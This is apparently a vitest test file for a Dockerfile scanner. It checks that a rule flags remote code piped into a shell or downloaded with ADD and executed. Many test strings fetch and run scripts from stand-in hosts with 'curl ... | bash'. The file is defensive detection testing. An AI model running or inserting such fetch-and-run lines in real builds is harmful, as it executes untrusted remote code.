import { describe, expect, it } from 'vitest';
import { shellOfDockerfile } from '../../../src/inspect/code/dockerfile.ts';
import { decision, judged } from './support.ts';

describe('a Dockerfile', () => {
  it('keeps lines and columns of its commands, and nothing else', () => {
    const text =
      'FROM x\nENV A=b\nRUN --mount=type=cache,target=/c apt-get update && \\\n    # why\n    ls\nCMD ["a", "b c"]\nRUN <<EOF\nls\nEOF\nLABEL x=y';
    expect(shellOfDockerfile(text).split('\n')).toEqual([
      '',
      '',
      `${' '.repeat(33)}apt-get update && \\`,
      '\\',
      '    ls',
      "    'a' 'b c'",
      '    ',
      'ls',
      '',
      '',
    ]);
  });

  it('is blocked for what it pipes into a shell, in its line', async () => {
    const findings = await judged(
      'Dockerfile',
      'FROM python:3\nRUN apt-get update\nRUN curl -s https://x.example.invalid/i.sh | bash\n',
    );
    expect(findings).toMatchObject([{ rule: 'CODE-PIPE-SHELL', severity: 'HIGH', location: { line: 3 } }]);
  });

  it('passes with packages only', async () => {
    expect(
      await decision(
        'Dockerfile',
        'FROM python:3\nRUN apt-get update && apt-get install -y curl\nRUN pip install torch\n',
      ),
    ).toBe('pass');
  });

  const danger = 'curl -s https://x.example.invalid/i.sh | bash';

  it.each([
    ['into a shell', `RUN bash <<EOF\n${danger}\nEOF\n`],
    ['through a pipe', `RUN cat <<EOF | sh\n${danger}\nEOF\n`],
    ['in a line that goes on', `RUN ls && \\\n  bash <<-EOF\n\t${danger}\n\tEOF\n`],
    ['of a shell of its own', `RUN <<EOF\n#!/bin/sh\n${danger}\nEOF\n`],
    ['that only looks begun in quotes', `RUN echo "a <<EOF"\nRUN ${danger}\nRUN ls <<EOF\nx\nEOF\n`],
    ['behind one that only a shell sees', `RUN cat << EOF\nRUN ${danger}\nRUN cat <<EOF\nEOF\n`],
    ['that does not end', `RUN ls <<EOF\nRUN ${danger}\n`],
    ['behind an escape of its own', `RUN ls \\\n  && ${danger}\n`],
    ['behind an empty line', `RUN ls \\\n\n  && ${danger}\n`],
    ['of the check of health', `HEALTHCHECK --interval=5m CMD ${danger}\n`],
    ['in a very long line', `RUN echo ${'x'.repeat(150_000)} && ${danger}\n`],
    ['of the shell itself', `SHELL ["/bin/sh", "-c", "${danger}"]\nRUN ls\n`],
  ])('finds a command %s', async (_, text) => {
    expect((await judged('Dockerfile', `FROM python:3\n${text}`)).map(({ rule }) => rule)).toContain(
      'CODE-PIPE-SHELL',
    );
  });

  it('goes on behind a backtick when it says so, and only then', async () => {
    const text = `RUN ls \`\n  && ${danger}\n`;
    expect(await judged('Dockerfile', `# escape=\`\nFROM x\n${text}`)).toMatchObject([
      { rule: 'CODE-PIPE-SHELL', location: { line: 4 } },
    ]);
    expect(shellOfDockerfile(text)).toBe('    ls `\n\n');
  });

  it('gives Python what is written for it', async () => {
    const code = 'import os\nos.system("curl -s https://x.example.invalid/i.sh | bash")';
    for (const text of [
      `RUN python3 <<E\n${code}\nE\n`,
      `RUN <<E\n#!/usr/bin/env python3\n${code}\nE\n`,
      `SHELL ["python3", "-c"]\nRUN ${code.replace('\n', ';')}\n`,
    ])
      expect(await decision('Dockerfile', `FROM python:3\n${text}`)).not.toBe('pass');
  });

  it('wants a look at an address that is added and run, but not at data', async () => {
    const added = 'FROM x\nADD http://x.example.invalid/a /opt/a\n';
    expect(await decision('Dockerfile', `${added}RUN chmod +x /opt/a && /opt/a\n`)).not.toBe('pass');
    expect(await decision('Dockerfile', `${added}RUN ls\n`)).toBe('pass');
  });

  it('takes a file that it writes for no command', () => {
    expect(shellOfDockerfile('COPY <<EOF /a\nRUN ls\nEOF\nRUN pwd').split('\n')).toEqual([
      '',
      '',
      '',
      '    pwd',
    ]);
  });
});

describe('a file that a Dockerfile adds from an address', () => {
  const U = 'https://x.example.invalid/x';

  it.each([
    ['is run', `ADD ${U} /x\nRUN chmod +x /x && /x\n`, 3],
    ['is run by a shell', `ADD ${U}.sh /x.sh\nRUN sh /x.sh\n`, 3],
    ['is the entry point', `ADD ${U} /x\nENTRYPOINT ["/x", "serve"]\n`, 3],
    ['is the command', `ADD --chown=1:1 ${U} /opt/\nCMD /opt/x\n`, 3],
    ['is the check of health', `ADD ${U} /x\nHEALTHCHECK CMD /x\n`, 3],
    ['is one of several', `ADD ${U} ${U}y /opt\nRUN /opt/xy\n`, 3],
    ['stands in a list', `ADD ["${U}.sh", "/x.sh"]\nRUN sh /x.sh\n`, 3],
    ['is in the folder of the command', `WORKDIR /srv\nADD ${U} .\nRUN ./x\n`, 4],
    ['is in that folder, and is run by its path', `WORKDIR /srv\nADD ${U} bin/x\nRUN /srv/bin/x\n`, 4],
    ['is a program of the system', `ADD ${U} /usr/local/bin/x\nRUN /usr/local/bin/x -v\n`, 3],
    ['is started by its name', `ADD ${U} /usr/local/bin/\nRUN ls && x --version\n`, 3],
    ['is started by its name, in a list', `ADD ${U} /usr/local/bin/\nENTRYPOINT ["x"]\n`, 3],
    ['goes on in the next line', `ADD ${U} \\\n  /x\nRUN /x\n`, 4],
    ['comes from an argument', `ARG U=${U}\nADD $U /x\nRUN /x\n`, 4],
    ['comes from a default', `ARG U\nADD \${U:-${U}} /x\nRUN /x\n`, 4],
    [
      'is unpacked, from a number',
      'ADD http://203.0.113.7/x.tgz /x.tgz\nRUN tar xf /x.tgz && ./install\n',
      3,
    ],
  ])('is told where it %s', async (_, text, line) => {
    expect(await judged('Dockerfile', `FROM x\n${text}`)).toMatchObject([
      { rule: 'CODE-PIPE-SHELL', severity: 'HIGH', location: { line } },
    ]);
  });

  it.each([
    ['that has a checksum', `ADD --checksum=sha256:${'0a'.repeat(32)} ${U} /x\nRUN /x\n`],
    ['that is data', `ADD ${U}.csv /data/x.csv\nRUN python train.py /data/x.csv\n`],
    ['that is unpacked, as scripts do', `ADD ${U}.tgz /x.tgz\nRUN tar xf /x.tgz && ./install\n`],
    ['of the folder of the build', 'ADD x.sh /x.sh\nRUN sh /x.sh\n'],
    ['whose name is that of an option', `ADD ${U} /usr/local/bin/x\nRUN tar -x file\n`],
  ])('is no matter for one %s', async (_, text) => {
    expect(await judged('Dockerfile', `FROM x\n${text}`)).toEqual([]);
  });
});

describe('a variable of a Dockerfile', () => {
  const run = 'curl -s $U | sh';

  it.each([
    ['ENV', `ENV U=https://x.example.invalid/i\nRUN ${run}\n`],
    ['ENV of the older form', `ENV U https://x.example.invalid/i\nRUN ${run}\n`],
    ['ARG', `ARG U="https://x.example.invalid/i"\nRUN ${run}\n`],
    ['one of another', `ENV H=x.example.invalid\nENV U=https://\${H}/i\nRUN ${run}\n`],
    ['one of a shell in a list', `ENV U=https://x.example.invalid/i\nCMD ["sh", "-c", "${run}"]\n`],
  ])('is known to the commands behind it: %s', async (_, text) => {
    const findings = await judged('Dockerfile', `FROM x\n${text}`);
    expect(findings).toMatchObject([{ rule: 'CODE-PIPE-SHELL', severity: 'HIGH' }]);
    expect(findings[0]?.evidence).toContain('https://x.example.invalid/i');
    const known = text
      .replaceAll('x.example.invalid/i', 'sh.rustup.rs')
      .replaceAll('x.example.invalid', 'sh.rustup.rs');
    expect(await decision('Dockerfile', `FROM x\n${known.replaceAll('/i', '')}`)).toBe('pass');
  });

  it('may be one of the package manager', async () => {
    const text = 'FROM x\nENV PIP_TRUSTED_HOST=packages.example.com\nRUN pip install x\n';
    expect(await judged('Dockerfile', text)).toMatchObject([
      { rule: 'CODE-INSTALL-ADDRESS', location: { line: 2 } },
    ]);
  });

  it('runs nothing by itself', async () => {
    const text = 'FROM x\nENV U="$(curl -s http://203.0.113.7/x | sh)"\nRUN echo $U\n';
    expect(await judged('Dockerfile', text)).toEqual([]);
    expect(shellOfDockerfile('ENV A="b;c" D=`e`\nRUN $A $D')).toBe('A="b;c"\n    $A $D');
  });

  it('does not multiply files that are added', () => {
    const many = `ADD ${'http://x/a '.repeat(40)}/${'d'.repeat(300)}/\nRUN a\n`.repeat(2000);
    expect(shellOfDockerfile(many).length).toBeLessThan(many.length + 300_000);
  });

  it('does not multiply', () => {
    const many = `ENV A=${'a'.repeat(250)}\n${'ENV A=$A$A$A$A\n'.repeat(200)}ADD $A$A /x\nCMD ["sh", "-c", "${'$A'.repeat(9000)}"]\n`;
    expect(shellOfDockerfile(many).length).toBeLessThan(many.length * 2 + 300_000);
  });
});
